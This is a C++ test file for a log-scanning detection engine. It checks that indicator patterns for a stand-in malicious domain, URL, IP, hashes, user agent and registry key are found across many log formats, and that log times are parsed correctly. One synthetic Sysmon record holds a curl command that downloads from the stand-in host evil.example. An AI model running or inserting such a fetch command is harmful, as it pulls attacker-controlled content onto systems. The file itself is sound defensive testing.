#include <doctest/doctest.h>

#include "detect/matcher.h"
#include "detect/readers/field_map.h"
#include "detect/readers/reader.h"
#include "detect/readers/share.h"

using namespace shieldwall;
using namespace shieldwall::detect;

namespace {

/// What is looked for: every sample below holds some of it.
Matcher everything() {
  const std::pair<std::string, std::string> patterns[] = {
      {"ip", "[ipv4-addr:value = '203.0.113.7']"},
      {"name", "[domain-name:value = 'evil.example']"},
      {"url", "[url:value = 'http://evil.example/gate.php?id=7']"},
      {"hash",
       "[file:hashes.'SHA-256' = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']"},
      {"cert", "[x509-certificate:hashes.'SHA-1' = 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3']"},
      {"agent",
       "[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = 'BadBot/1.0 x y']"},
      {"key", "[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software\\\\Bad']"},
  };
  std::vector<Indicator> indicators;
  for (const auto& [id, pattern] : patterns) indicators.push_back({.id = id, .pattern = pattern});
  return compile(std::move(indicators), {.now = {}});
}

struct Seen {
  std::string format, map, time;  // of the first hit
  std::string hits;               // "line:field=indicator ..." in order, each once
  ReadingCounts counts;
};

Seen look_through(std::string_view text) {
  static const Matcher matcher = everything();
  wire::MemoryReader source(text);
  LogReader reader(source);
  Scanner scanner(matcher);
  Seen seen;
  for (Record record;;) {
    const auto more = reader.next(record);
    REQUIRE(more);
    if (!*more) break;
    record.read_at = *parse_lenient_time("2018-06-01T00:00:00Z");
    for (const auto& match : scanner.scan(record)) {
      const auto hit =
          fmt::format("{}:{}={}", record.line, match.field, matcher.indicator(match.indicator).id);
      if (seen.hits.find(hit) != std::string::npos) continue;
      if (seen.hits.empty())
        if (const auto time = event_time(record)) seen.time = to_text(*time);
      seen.hits += (seen.hits.empty() ? "" : " ") + hit;
    }
  }
  seen.format = name_of(reader.format());
  seen.map = reader.map() == nullptr ? "" : reader.map()->name;
  seen.counts = reader.counts();
  return seen;
}

}  // namespace

TEST_CASE("every field map that is compiled in can be read, and their names differ") {
  for (const auto text : shared_field_maps()) {
    const auto map = read_field_map(text);
    CHECK_MESSAGE(map, (map ? "" : map.error().message));
  }
  const auto maps = field_maps();
  REQUIRE(maps.size() >= 15);
  for (std::size_t i = 1; i < maps.size(); ++i) CHECK(maps[i - 1].name < maps[i].name);
}

TEST_CASE("a field map that is off is refused with its line") {
  for (const std::string bad : {"name: x\ntitle: y\n",
                                "name: x\ntitle: y\nformat: xml\n",
                                "name: x\ntitle: y\nformat: lines\n",
                                "name: x\ntitle: y\nformat: lines\nlines: ['(']\n",
                                "name: x\ntitle: y\nformat: json\nkinds: {a: b}\n",
                                "name: x\ntitle: y\nformat: json\nurls: [{host: a}]\n",
                                "name: x\ntitle: y\nformat: json\ntime: {a: b}\n",
                                "- x\n"})
    CHECK_MESSAGE(!read_field_map(bad), bad);
}

TEST_CASE("Suricata EVE: URLs from their pieces, certificates with colons, agents") {
  const auto seen = look_through(
      R"({"timestamp":"2018-03-24T18:15:20.865716+0100","event_type":"http","src_ip":"203.0.113.7","http":{"hostname":"evil.example","url":"/gate.php?id=7","http_user_agent":"BadBot/1.0 x y"}})"
      "\n"
      R"({"timestamp":"2018-03-24T18:15:21.000000+0100","event_type":"tls","tls":{"sni":"www.evil.example","fingerprint":"a9:4a:8f:e5:cc:b1:9b:a6:1c:4c:08:73:d3:91:e9:87:98:2f:bb:d3"}})"
      "\n");
  CHECK(seen.map == "suricata-eve");
  CHECK(seen.time == "2018-03-24T17:15:20.865716Z");
  CHECK(seen.hits ==
        "1:src_ip=ip 1:http.hostname=name 1:http.http_user_agent=agent 1:http.hostname+http.url=url "
        "2:tls.sni=name "
        "2:tls.fingerprint=cert");
}

TEST_CASE("ECS and OCSF: URLs from their pieces, what stands inside messages, registry keys") {
  const auto ecs = look_through(
      R"({"@timestamp":"2018-03-24T17:15:20.865Z","url":{"domain":"evil.example","path":"/gate.php","query":"id=7"},"user_agent":{"original":"BadBot/1.0 x y"},"message":"seen from 203.0.113.7, again","registry":{"path":"HKLM\\Software\\Bad\\Run"}})"
      "\n");
  CHECK(ecs.map == "ecs");
  CHECK(ecs.time == "2018-03-24T17:15:20.865000Z");
  CHECK(ecs.hits ==
        "1:url.domain=name 1:user_agent.original=agent 1:message=ip 1:registry.path=key "
        "1:url.domain+url.path=url");
  const auto ocsf = look_through(
      R"({"class_uid":4002,"time":1521911720865,"http_request":{"user_agent":"BadBot/1.0 x y","url":{"hostname":"evil.example","path":"/gate.php","query_string":"id=7"}},"src_endpoint":{"ip":"203.0.113.7"}})"
      "\n");
  CHECK(ocsf.map == "ocsf");
  CHECK(ocsf.time == "2018-03-24T17:15:20.865000Z");
  CHECK(ocsf.hits ==
        "1:http_request.user_agent=agent 1:http_request.url.hostname=name 1:src_endpoint.ip=ip "
        "1:http_request.url.hostname+http_request.url.path=url");
}

TEST_CASE("Windows events as JSON, one a line, flat, or over many lines, with hashes in one field") {
  const std::string hashes =
      "SHA1=aa,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08";
  const auto nested = look_through(
      R"({"Event":{"System":{"EventID":13,"Channel":"Microsoft-Windows-Sysmon/Operational","TimeCreated":{"#attributes":{"SystemTime":"2018-03-24T17:15:20.865716Z"}}},"EventData":{"Hashes":")" +
      hashes +
      R"(","TargetObject":"HKLM\\Software\\Bad\\x","CommandLine":"curl http://evil.example/gate.php?id=7 -o a"}}})"
      "\n");
  CHECK(nested.map == "windows-json");
  CHECK(nested.time == "2018-03-24T17:15:20.865716Z");
  CHECK(nested.hits ==
        "1:Event.EventData.TargetObject=key 1:Event.EventData.CommandLine=name "
        "1:Event.EventData.CommandLine=url 1:Event.EventData.Hashes=hash");
  const auto flat = look_through(
      R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","UtcTime":"2018-03-24 17:15:20.865","Hashes":")" +
      hashes + "\"}\n");
  CHECK(flat.map == "windows-flat");
  CHECK(flat.time == "2018-03-24T17:15:20.865000Z");
  CHECK(flat.hits == "1:Hashes=hash");
  const auto spread = look_through(
      "[\n {\n  \"EventID\": 3,\n  \"Channel\": \"Sysmon\",\n  \"DestinationIp\": \"203.0.113.7\"\n },\n"
      " {\"EventID\": 22, \"Channel\": \"Sysmon\", \"QueryName\": \"evil.example\"}\n]\n");
  CHECK(spread.format == "JSON");
  CHECK(spread.map == "windows-flat");
  CHECK(spread.hits == "2:DestinationIp=ip 7:QueryName=name");
}

TEST_CASE("syslog of both kinds, and what its messages hold") {
  const auto old = look_through(
      "<34>Mar 24 17:15:20 gate sshd[77]: Failed password from 203.0.113.7 port 22\n"
      "Mar  4 17:15:20 gate dnsmasq[1]: query[A] www.evil.example from 192.0.2.1\n"
      "Mar  4 17:15:20 dnsmasq[1]: reply good.example is 203.0.113.7\n"
      "2018-03-24T18:15:20+01:00 gate app: {\"dst\":\"203.0.113.7\"}\n"
      "what is this\n");
  CHECK(old.format == "syslog");
  CHECK(old.time == "2018-03-24T17:15:20.000000Z");
  CHECK(old.hits == "1:message=ip 2:query=name 3:answer=ip 4:dst=ip");
  CHECK(old.counts.broken_lines == 1);
  const auto late = look_through(
      "<165>1 2018-03-24T17:15:20.003Z gate evntslog - ID47 [a@32473 ip=\"203.0.113.7\" q=\"x \\\"y\\] "
      "z\"][b c=\"evil.example\"] "
      "\xef\xbb\xbf"
      "at http://evil.example/gate.php?id=7\n<165>1 - gate a - - - evil.example\n<165>1 - - - - - [x "
      "y=\"\n");
  CHECK(late.time == "2018-03-24T17:15:20.003000Z");
  CHECK(late.hits == "1:a@32473.ip=ip 1:b.c=name 1:message=name 1:message=url 2:message=name");
  CHECK(late.counts.broken_lines == 1);
}

TEST_CASE("CEF and LEEF, bare and behind syslog's head; equals signs inside values") {
  const auto cef = look_through(
      "Mar 24 17:15:20 fw CEF:0|Some|Fire\\|wall|1|100|drop|5|src=203.0.113.7 "
      "request=http://evil.example/gate.php?id=7 "
      "requestClientApplication=BadBot/1.0 x y msg=a \\= b rt=1521911720865\n"
      "CEF:0|Some|Wall|1|100|drop|5|dhost=evil.example rt=Mar 24 2018 17:15:21\n"
      "CEF:0|Some\n");
  CHECK(cef.format == "CEF or LEEF");
  CHECK(cef.time == "2018-03-24T17:15:20.000000Z");
  CHECK(cef.hits == "1:src=ip 1:request=name 1:request=url 1:requestClientApplication=agent 2:dhost=name");
  CHECK(cef.counts.broken_lines == 1);
  const auto leef = look_through(
      "LEEF:1.0|Some|Wall|1|100|src=203.0.113.7\tdevTime=Mar 24 2018 17:15:20\n"
      "LEEF:2.0|Some|Wall|1|100|^|dst=203.0.113.7^url=http://evil.example/gate.php?id=7\n"
      "LEEF:2.0|Some|Wall|1|100|x5e|identHostName=evil.example^x=y\n");
  CHECK(leef.time == "2018-03-24T17:15:20.000000Z");
  CHECK(leef.hits == "1:src=ip 2:dst=ip 2:url=name 2:url=url 3:identHostName=name");
}

TEST_CASE("W3C logs: columns from #Fields, agents with + for spaces, URLs from their pieces") {
  const auto seen = look_through(
      "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2018-03-24 "
      "00:00:00\r\n"
      "#Fields: date time c-ip cs-method cs-host cs-uri-stem cs-uri-query cs(User-Agent) sc-status\r\n"
      "2018-03-24 17:15:20 203.0.113.7 GET evil.example /gate.php id=7 BadBot/1.0+x+y 200\r\n"
      "2018-03-24 17:15:20 203.0.113.7 GET\r\n#Fields: time c-ip\r\n17:15:21 203.0.113.7\r\n");
  CHECK(seen.format == "W3C extended log");
  CHECK(seen.time == "2018-03-24T17:15:20.000000Z");
  CHECK(seen.hits ==
        "5:c-ip=ip 5:cs-host=name 5:cs(User-Agent)=agent 5:cs-host+cs-uri-stem=url 6:=ip 8:c-ip=ip");
  CHECK(seen.counts.broken_lines == 1);
}

TEST_CASE("web servers' access logs, common, combined and by virtual host") {
  const auto seen = look_through(
      "203.0.113.7 - - [24/Mar/2018:18:15:20 +0100] \"GET /x HTTP/1.1\" 200 12\n"
      "192.0.2.1 - joe [24/Mar/2018:18:15:20 +0100] \"GET /x HTTP/1.1\" 200 12 "
      "\"http://evil.example/gate.php?id=7\" \"BadBot/1.0 x y\"\n"
      "evil.example:80 192.0.2.1 - - [24/Mar/2018:18:15:20 +0100] \"GET /gate.php?id=7 HTTP/1.1\" 200 - "
      "\"-\" \"-\"\n"
      "192.0.2.1 - - [24/Mar/2018:18:15:20 +0100] \"\\x16\\x03 evil.example\" 400 0 \"-\" \"-\"\n"
      "192.0.2.1 broken\n");
  CHECK(seen.map == "access-log");
  CHECK(seen.time == "2018-03-24T17:15:20.000000Z");
  CHECK(seen.hits ==
        "1:client=ip 2:referer=name 2:referer=url 2:agent=agent 3:vhost=name 3:vhost+path=url "
        "4:request=name");
  CHECK(seen.counts.broken_lines == 1);
}

TEST_CASE("query logs of BIND, unbound and dnsmasq, and Squid's log") {
  const auto bind = look_through(
      "24-Mar-2018 17:15:20.865 queries: info: client @0x7f0 203.0.113.7#5353 (www.evil.example): query: "
      "www.evil.example IN A +E(0)K (192.0.2.53)\n"
      "24-Mar-2018 17:15:21.000 client 2001:db8::1#53: view in: query: evil.example IN AAAA -\n"
      "24-Mar-2018 17:15:21.000 general: info: managed-keys-zone: loaded serial 7\n");
  CHECK(bind.map == "bind-queries");
  CHECK(bind.time == "2018-03-24T17:15:20.865000Z");
  CHECK(bind.hits == "1:client=ip 1:query=name 2:query=name");
  CHECK(bind.counts.broken_lines == 0);
  const auto unbound = look_through(
      "[1521911720] unbound[77:0] info: start of service\n"
      "[1521911720] unbound[77:0] info: 203.0.113.7 evil.example. A IN\n"
      "[1521911721] unbound[77:0] info: 192.0.2.1 evil.example. A IN NOERROR 0.1 0 44\n");
  CHECK(unbound.map == "unbound");
  CHECK(unbound.time == "2018-03-24T17:15:20.000000Z");
  CHECK(unbound.hits == "2:client=ip 2:query=name 3:query=name");
  const auto dnsmasq = look_through(
      "Mar 24 17:15:20 dnsmasq[7]: query[AAAA] evil.example from 192.0.2.1\n"
      "Mar 24 17:15:20 dnsmasq[7]: 12 192.0.2.1/5353 cached evil.example is NXDOMAIN\n");
  CHECK(dnsmasq.time == "2018-03-24T17:15:20.000000Z");
  CHECK(dnsmasq.hits == "1:query=name 2:query=name");
  const auto squid = look_through(
      "1521911720.865    112 203.0.113.7 TCP_MISS/200 4512 GET http://evil.example/gate.php?id=7 - "
      "HIER_DIRECT/192.0.2.1 text/html\n");
  CHECK(squid.map == "squid");
  CHECK(squid.time == "2018-03-24T17:15:20.865000Z");
  CHECK(squid.hits == "1:client=ip 1:url=name 1:url=url");
}

TEST_CASE("Zeek's JSON and tab separated forms give the same") {
  const auto json = look_through(
      R"({"ts":1521911720.865716,"uid":"C1","id.orig_h":"203.0.113.7","host":"evil.example","uri":"/gate.php?id=7","user_agent":"BadBot/1.0 x y"})"
      "\n");
  const auto tsv = look_through(
      "#separator "
      "\\x09\n#fields\tts\tuid\tid.orig_h\thost\turi\tuser_agent\n#"
      "types\ttime\tstring\taddr\tstring\tstring\tstring\n"
      "1521911720.865716\tC1\t203.0.113.7\tevil.example\t/gate.php?id=7\tBadBot/1.0 x y\n");
  CHECK(json.map == "zeek-json");
  CHECK(tsv.map == "zeek-tsv");
  CHECK(json.time == "2018-03-24T17:15:20.865716Z");
  CHECK(json.time == tsv.time);
  CHECK(json.hits == "1:id.orig_h=ip 1:host=name 1:user_agent=agent 1:host+uri=url");
  CHECK(tsv.hits == "4:id.orig_h=ip 4:host=name 4:user_agent=agent 4:host+uri=url");
}

TEST_CASE("times as logs write them") {
  const auto read_at = *parse_lenient_time("2024-01-10T00:00:00Z");
  const auto at = [&](std::string_view text) {
    const auto time = read_time(text, read_at);
    return time ? to_text(*time).substr(0, 23) : "";
  };
  CHECK(at("10/Oct/2000:13:55:36 -0700") == "2000-10-10T20:55:36.000");
  CHECK(at("24-Mar-2018 17:15:20.865") == "2018-03-24T17:15:20.865");
  CHECK(at("Mar 24 2018 17:15:20.865 UTC") == "2018-03-24T17:15:20.865");
  CHECK(at("Sat Mar 24 17:15:20 2018") == "2018-03-24T17:15:20.000");
  CHECK(at("2018/03/24 17:15:20") == "2018-03-24T17:15:20.000");
  CHECK(at("Jan  9 17:15:20") == "2024-01-09T17:15:20.000");
  CHECK(at("Jan 10 17:15:20") == "2024-01-10T17:15:20.000");  // clocks differ
  CHECK(at("Dec 31 23:59:59") == "2023-12-31T23:59:59.000");
  CHECK(at("Feb 29 12:00:00") == "2020-02-29T12:00:00.000");
  CHECK(read_time("Jan  9 17:15:20", {}) == std::nullopt);
  for (const std::string bad :
       {"Foo 24 17:15:20", "Mar 17:15:20", "Mar 24 17:15", "Mar 44 17:15:20 2018", "::::::::::::::::::"})
    CHECK_MESSAGE(at(bad) == "", bad);
}

TEST_CASE("EVTX that is damaged or is none ends with its reason") {
  using namespace std::string_literals;
  const auto bytes = "ElfFile\0 and nothing behind it"s;
  wire::MemoryReader source(bytes);
  LogReader reader(source);
  Record record;
  Result<bool> more = true;
  while (more && *more) more = reader.next(record);
  REQUIRE(!more);
  CHECK(reader.format() == LogFormat::evtx);
}
